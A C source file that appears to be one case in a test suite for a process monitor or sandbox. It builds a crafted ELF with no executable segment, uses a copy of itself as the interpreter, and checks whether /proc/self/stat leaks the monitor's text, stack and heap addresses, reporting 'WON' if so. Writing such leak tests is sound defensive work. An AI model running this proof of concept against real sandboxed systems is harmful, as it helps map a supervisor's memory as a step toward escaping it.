// A program without an executable segment: where its interpreter's code runs, the kernel refuses the bounds that the monitor
// gives it (PR_SET_MM_MAP), and /proc/self/stat shows the monitor's own text, stack and heap.
#include "attack.h"
#include <elf.h>
#include <stddef.h>

#define AT 0x10000000UL

static long call(long nr, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}

// Where the interpreter begins: a copy of this program, whose libc has not been started.
__attribute__((noreturn, force_align_arg_pointer, used)) static void inside(void) {
    static char text[4096];
    static const char won[] = "WON: /proc/self/stat shows addresses of the monitor: ";
    long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/stat", O_RDONLY, 0), n;
    n = call(SYS_read, fd, (long)text, sizeof text - 1, 0);
    long at = n - 1;
    while (at > 0 && text[at] != ')')
        at--;
    for (int field = 2; at > 0 && at < n; at++) {
        unsigned long value = 0;
        if (text[at] != ' ')
            continue;
        field++;
        for (long i = at + 1; text[i] >= '0' && text[i] <= '9'; i++)
            value = value * 10 + (unsigned long)(text[i] - '0');
        if ((field == 26 || field == 27 || field == 28 || (field >= 45 && field <= 51)) &&
            value >= ATTACK_WINDOW_END) {
            call(SYS_write, 1, (long)won, sizeof won - 1, 0);
            call(SYS_write, 1, (long)text, n, 0);
            call(SYS_exit_group, ATTACK_WON, 0, 0, 0);
        }
    }
    call(SYS_write, 1, (long)"lost\n", 5, 0);
    call(SYS_exit_group, n > 0 ? 0 : 2, 0, 0, 0);
    __builtin_unreachable();
}

static void put(const char *path, const void *data, size_t n) {
    int fd = open(path, O_CREAT | O_WRONLY, 0755);
    if (fd < 0 || write(fd, data, n) != (ssize_t)n || fchmod(fd, 0755) < 0)
        attack_broken(path);
    close(fd);
}

int main(void) {
    char dir[] = "/tmp/stat-XXXXXX", path[64];
    static char own[8 << 20];
    struct {
        Elf64_Ehdr e;
        Elf64_Phdr p[2];
        char interp[64];
    } f = {.e = {.e_ident = "\177ELF\2\1\1",
                 .e_type = ET_EXEC,
                 .e_machine = EM_X86_64,
                 .e_version = 1,
                 .e_entry = AT,
                 .e_phoff = sizeof f.e,
                 .e_ehsize = sizeof f.e,
                 .e_phentsize = sizeof f.p[0],
                 .e_phnum = 2},
           .p = {{.p_type = PT_INTERP, .p_flags = PF_R, .p_offset = offsetof(__typeof__(f), interp)},
                 {.p_type = PT_LOAD,
                  .p_flags = PF_R,
                  .p_vaddr = AT,
                  .p_filesz = sizeof f,
                  .p_memsz = sizeof f,
                  .p_align = 4096}}};
    int self = open("/proc/self/exe", O_RDONLY);
    long n = read(self, own, sizeof own);
    if (n <= 0 || n == sizeof own || !mkdtemp(dir))
        attack_broken("the program's own file");
    close(self);
    ((Elf64_Ehdr *)own)->e_entry = (Elf64_Addr)inside;
    snprintf(f.interp, sizeof f.interp, "%s/interp", dir);
    f.p[0].p_filesz = f.p[0].p_memsz = strlen(f.interp) + 1;
    f.p[0].p_vaddr = AT + f.p[0].p_offset;
    put(f.interp, own, (size_t)n);
    snprintf(path, sizeof path, "%s/program", dir);
    put(path, &f, sizeof f);
    execl(path, path, NULL);
    attack_broken("execve");
}
